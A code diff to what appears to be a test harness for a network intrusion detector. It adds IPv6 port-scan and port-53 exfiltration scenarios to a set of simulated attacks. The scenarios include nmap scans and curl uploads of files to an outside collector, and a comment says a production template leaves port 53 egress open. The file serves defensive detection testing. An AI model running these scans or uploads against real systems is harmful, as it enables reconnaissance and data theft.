@@ -35,6 +35,12 @@ class Attack:
     begin: Callable[[Stage, Path], None]
     detected_within: float = 40.0
     established: bool = False
+    ipv6: bool = False
+
+    @property
+    def source(self) -> str:
+        """The address that it comes from."""
+        return BY_NAME[self.pod].ip6 if self.ipv6 else BY_NAME[self.pod].ip4
 
 
 def _again(stage: Stage, where: str, command: str) -> None:
@@ -51,23 +57,36 @@ def _scan(stage: Stage, _folder: Path) -> None:
     _again(stage, "attacker", f"nmap -sT -r -n -Pn --max-retries 0 --max-rate 200 -p 1-20000 {BY_NAME['web'].ip4}")
 
 
-def _site(stage: Stage, folder: Path) -> None:
+def _scan6(stage: Stage, _folder: Path) -> None:
+    _again(stage, "attacker", f"nmap -6 -sT -r -n -Pn --max-retries 0 --max-rate 200 -p 1-20000 {BY_NAME['web'].ip6}")
+
+
+def _site(stage: Stage, folder: Path, pod: str = "client4", port: int = 8080) -> None:
     """A collector outside, and frames of 9,000 bytes on the way to it, as many clusters have."""
-    for link in ("veth-client4", "br0", pods.UPLINK):
+    for link in (BY_NAME[pod].veth, "br0", pods.UPLINK):
         stage.tool("node", f"ip link set {link} mtu 9000")
-    for where in ("client4", pods.OUTSIDE):
+    for where in (pod, pods.OUTSIDE):
         stage.tool(where, "ip link set eth0 mtu 9000")
-    stage.server(pods.OUTSIDE, "upload 8080")
+    stage.server(pods.OUTSIDE, f"upload {port}")
     with (folder / "part").open("wb") as file:
         file.truncate(_PART)
 
 
-def _upload(stage: Stage, folder: Path) -> None:
+def _site_at_53(stage: Stage, folder: Path) -> None:
+    _site(stage, folder, "client3", 53)
+
+
+def _upload_to_53(stage: Stage, folder: Path) -> None:
+    _upload(stage, folder, "client3", 53)
+
+
+def _upload(stage: Stage, folder: Path, pod: str = "client4", port: int = 8080) -> None:
     options = "-sS -o /dev/null --max-time 5 --limit-rate 40M -H Expect:"
-    _again(stage, "client4", f"curl {options} -T {folder / 'part'} http://{SITE}:8080/100")
+    _again(stage, pod, f"curl {options} -T {folder / 'part'} http://{SITE}:{port}/100")
 
 
-def _upload_in_one(stage: Stage, _folder: Path) -> None:
+def upload_in_one(stage: Stage, _folder: Path) -> None:
+    """One connection that goes on for minutes."""
     stage.begin("client4", ["sh", "-c", f"head -c 4G /dev/zero | curl -sS -o /dev/null --limit-rate 20M -H Expect: "
                                         f"-H 'Content-Length: 4294967296' -T - http://{SITE}:8080/100"])  # fmt: skip
 
@@ -103,10 +122,13 @@ def _shell(stage: Stage, _folder: Path) -> None:
 
 ATTACKS = (
     Attack("scan", "port_scan_vertical", "attacker", (BY_NAME["web"].ip4,), _open_port, _scan),
+    Attack("scan6", "port_scan_vertical", "attacker", (BY_NAME["web"].ip6,), _open_port, _scan6, ipv6=True),
     Attack("upload", "exfiltration", "client4", (SITE,), _site, _upload),
     Attack("dns", "dns_tunnel", "client3", (BY_NAME["dns"].ip4,), _resolver, _leak),
     Attack("shell", "reverse_shell", "web", (LISTENER,), _listener, _shell, 100.0, established=True),
-    Attack("long_upload", "exfiltration", "client4", (SITE,), _site, _upload_in_one, established=True),
+    Attack("long_upload", "exfiltration", "client4", (SITE,), _site, upload_in_one, established=True),
     Attack("iodine", "dns_tunnel", "client3", (BY_NAME["dns"].ip4,), _tunnel_end, _tunnel, established=True),
 )
+# By the way that the production template leaves open to everybody: `to: []`, port 53.
+BY_PORT_53 = Attack("upload53", "exfiltration", "client3", (SITE,), _site_at_53, _upload_to_53)
 BY_ATTACK = {attack.name: attack for attack in ATTACKS}
